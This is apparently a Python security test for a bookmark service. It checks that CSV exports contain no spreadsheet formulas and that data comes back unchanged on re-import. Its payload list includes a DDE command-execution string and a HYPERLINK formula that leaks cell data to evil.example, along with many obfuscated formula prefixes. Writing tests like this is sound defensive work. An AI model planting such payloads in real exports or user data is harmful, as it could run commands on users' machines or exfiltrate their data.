"""CSV formulas: no cell of an export is one, whatever a page, file or device put there; read back, it is the same."""

import csv
import io

from target import KEY, Target

FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "＝1+1", "＋1",
            "－1", "＠SUM(1)", '=HYPERLINK("https://evil.example?"&A1,"x")', "=1;=2", "a\n=1", "=\"\"\"=1", " =1",
            "\u00a0=1", "\ufeff=1", "\u200b+1", "\v-1", " \t@x", "' =1"]  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠")
UNSEEN = " \u00a0\v\u200b\ufeff"


def test_no_cell_is_a_formula_and_every_text_comes_back(own_target: Target):
    for n, text in enumerate(FORMULAS):
        body = {"key": f"arxiv:2401.{n + 1:05}", "title": text, "authors": [text], "venue": text, "note": text,
                "abstract": text, "tags": [text.strip()]}  # fmt: skip
        own_target.must("POST", "/api/v1/bookmarks", body)
    exported = own_target.api("GET", "/api/v1/export?format=csv").text
    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == len(FORMULAS) + 2
    assert [cell for cell in cells if cell.lstrip(UNSEEN).startswith(STARTS)] == []
    before = own_target.must("GET", "/api/v1/bookmarks?limit=100")["items"]
    report = own_target.api("POST", "/api/v1/import?format=csv", exported.encode())
    assert report.status == 200
    told = {one["key"]: (one["title"], one["note"].strip()) for one in before}
    again = own_target.must("GET", "/api/v1/bookmarks?limit=100")["items"]
    assert {one["key"]: (one["title"], one["note"].strip()) for one in again} == told
    assert KEY in told
